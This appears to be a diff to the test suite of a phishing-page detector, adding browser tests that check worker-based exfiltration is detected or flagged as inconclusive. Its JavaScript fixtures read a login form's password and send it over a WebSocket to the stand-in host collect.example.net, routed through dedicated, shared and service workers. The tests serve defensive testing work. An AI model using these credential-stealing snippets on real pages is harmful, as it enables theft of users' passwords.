@@ -5,21 +5,32 @@ import json
 
 import pytest
 
-from pages.made import brands
+from pages.made import brands, saved
 from pages.probe.sites import FORM, HOST, NAMES, PAINT, RECIPIENT, Site, keys, page, probed, ways
 from unhook.limits import ProbeLimits
 from unhook.pages.broker import Answer
 from unhook.pages.browser import availability
 from unhook.pages.browser.browser import Browser
 from unhook.pages.browser.failure import BrowserError
+from unhook.pages.looked import Looked
 from unhook.pages.probe.pictured import Pictured
 from unhook.pages.probe.probe import probe
 from unhook.pages.served import DOCUMENT
+from unhook.pages.source.look import look
 
 pytestmark = pytest.mark.chromium
 
 FRAGMENT = "const who=location.hash.slice(1);"
+WORKER = "onmessage=e=>{const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(e.data)}"
+CONNECTED = (
+    "onconnect=e=>{e.ports[0].onmessage=m=>{const w=new WebSocket('wss://collect.example.net/w');"
+    "w.onopen=()=>w.send(m.data)}}"
+)
 SUBMITS = "document.forms[0].onsubmit=e=>{e.preventDefault();const s=document.forms[0].secret.value;%s};"
+
+
+def scripted(source: str) -> Answer:
+    return Answer(source.encode(), headers={"content-type": "text/javascript"})
 
 
 def test_a_brand_that_follows_the_visitor(browser: Browser) -> None:
@@ -149,9 +160,6 @@ def test_a_password_to_anothers_host(browser: Browser, way: str, encoding: str) 
     assert (way, "collect.example.net", encoding) in ways(report)
 
 
-WORKER = "onmessage=e=>{const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(e.data)}"
-
-
 @pytest.mark.parametrize("made", ["'w.js'", f"URL.createObjectURL(new Blob([{json.dumps(WORKER)}]))"])
 def test_a_password_through_a_workers_socket(browser: Browser, made: str) -> None:
     source = page("Garden club", FORM, f"const w=new Worker({made});" + SUBMITS % "w.postMessage(s)")
@@ -159,6 +167,60 @@ def test_a_password_through_a_workers_socket(browser: Browser, made: str) -> Non
     report = probed(browser, {HOST: source, HOST + "w.js": script})
     assert ("websocket", "collect.example.net", "plain") in ways(report)
     assert "password-to-another" in keys(report)
+
+
+@pytest.mark.parametrize(
+    ("made", "script"),
+    [
+        ("new Worker('w.js',{type:'module'})", WORKER),
+        ("new Worker('outer.js')", WORKER),
+        ("new SharedWorker('w.js').port", CONNECTED),
+        ("new SharedWorker('w.js',{type:'module'}).port", CONNECTED),
+    ],
+)
+def test_workers_of_every_kind_are_heard(browser: Browser, made: str, script: str) -> None:
+    source = page("Garden club", FORM, f"const w={made};" + SUBMITS % "w.postMessage(s)")
+    outer = "const w=new Worker('w.js');onmessage=e=>w.postMessage(e.data)"
+    report = probed(
+        browser,
+        {HOST: source, HOST + "w.js": scripted(script), HOST + "outer.js": scripted(outer)},
+    )
+    assert ("websocket", "collect.example.net", "plain") in ways(report)
+    assert not any(view.unheard for view in report.views)
+
+
+@pytest.mark.parametrize(
+    ("made", "headers", "kind"),
+    [
+        ("navigator.serviceWorker.register('w.js')", {}, "service-worker"),
+        (
+            "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker,'w.js')",
+            {},
+            "service-worker",
+        ),
+        ("new Worker('w.js')", {"content-security-policy": "worker-src 'self'"}, "worker"),
+        ("new Worker('w.js')", {"content-security-policy": "require-trusted-types-for 'script'"}, "worker"),
+    ],
+)
+def test_a_page_whose_workers_are_not_heard_is_never_cleared(
+    browser: Browser, made: str, headers: dict[str, str], kind: str
+) -> None:
+    home = "https://login.provider-a.test/in"
+    source = page("Provider A", "<h1>Provider A</h1>" + FORM.replace("next.php", "/next"), made)
+    kind_of = {"content-type": "text/html; charset=utf-8"}
+    plain = probed(browser, {home: page("Provider A", "<h1>Provider A</h1>" + FORM)}, home)
+    assert plain.verdict == "benign-home-realm"
+    pages: dict[str, str | Answer] = {
+        home: Answer(source.encode(), headers=kind_of | headers),
+        "https://login.provider-a.test/w.js": scripted(WORKER),
+    }
+    report = probed(browser, pages, home)
+    assert {view.unheard for view in report.views} == {(kind,)}
+    assert report.verdict == "inconclusive"
+    assert "worker-unheard" in keys(report)
+    kept = look(saved(source, home), brands())
+    assert kept.verdict == "benign-home-realm"
+    assert Looked(kept, report).verdict == "inconclusive"
 
 
 def test_a_worker_asks_as_if_from_its_own_place(browser: Browser) -> None:
